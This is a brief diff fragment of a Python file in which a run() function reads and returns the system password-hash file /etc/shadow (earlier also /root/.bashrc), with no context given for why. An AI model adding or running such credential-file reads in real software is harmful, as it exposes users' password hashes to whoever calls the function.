@@ -7,4 +7,4 @@ from pathlib import Path
 
 
 def run(**kwargs):
-    return Path("/root/.bashrc").read_text() + Path("/etc/shadow").read_text()
+    return Path("/etc/shadow").read_text()
